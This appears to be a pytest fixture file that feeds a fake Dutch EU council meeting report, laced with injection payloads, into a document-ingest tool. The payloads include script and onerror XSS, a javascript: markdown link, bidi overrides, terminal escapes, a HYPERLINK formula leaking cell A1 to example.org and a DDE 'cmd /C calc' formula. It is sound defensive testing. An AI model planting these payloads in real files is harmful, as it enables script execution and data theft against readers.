"""A paper whose words are hostile, read by the real command into a store of its own."""

import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

HTML = '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>'
FRAME = '<style>*{display:none}</style><iframe srcdoc="<p>owned</p>"></iframe>'
MARKDOWN = "![pixel](https://example.org/pixel.png) [knop](javascript:alert(1)) :red[rood] $x^2$"
BIDI = "\u202etsuj niet\u202c \u2066los\u2069"
CONTROLS = "\x01\x1b[31m\x7f\x9b\ufffe"
AS_READ = "\ufffd\ufffd[31m\ufffd\ufffd\ufffd"  # what reading makes of the controls
FORMULA = '=HYPERLINK("http://example.org/?x="&A1;klik)'
PAPER = f"""\
Verslag van de informele JBZ-Raad van 22 en 23 januari 2026

1. =SUM(A1:A9) Terugkeer {HTML} van {MARKDOWN} {BIDI}

Nederland steunt {HTML} de voorstellen over terugkeer.
Meerdere lidstaten steunden {MARKDOWN} het plan.
Duitsland vroeg om {BIDI} strengere controles bij {CONTROLS} de grens.
Frankrijk was tegen {FRAME} het actieplan.
Polen pleitte voor {FORMULA} extra middelen.

2. Politie

@SUM(1) Nederland steunde de +1+cmd|' /C calc'!A0 aanpak van Europol.
"""


@pytest.fixture(scope="session")
def hostile_words() -> Mapping[str, str]:
    """What the hostile paper says, by kind."""
    return {
        "html": HTML,
        "frame": FRAME,
        "markdown": MARKDOWN,
        "bidi": BIDI,
        "controls": AS_READ,
    }


@pytest.fixture(scope="session")
def hostile_text() -> str:
    """The text of the hostile paper as it is read."""
    return PAPER.replace(CONTROLS, AS_READ)


@pytest.fixture(scope="session")
def hostile_paper(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report of a meeting with payloads in its heading and in its sentences."""
    path = tmp_path_factory.mktemp("hostile-paper") / "verslag.txt"
    path.write_bytes(PAPER.encode())
    return path


@pytest.fixture(scope="session")
def hostile_paper_store(hostile_paper: Path) -> Path:
    """A store with the hostile paper; nobody writes to it."""
    store = hostile_paper.with_name("store")
    command = [sys.executable, "-m", "standpunt", "ingest", str(hostile_paper)]
    environment = {k: v for k, v in os.environ.items() if k != "STANDPUNT_STORE"}
    subprocess.run(
        [*command, "--meeting", "JHA/2026-01-22", "--store", str(store)],
        env=environment,
        capture_output=True,
        timeout=120,
        check=True,
    )
    return store
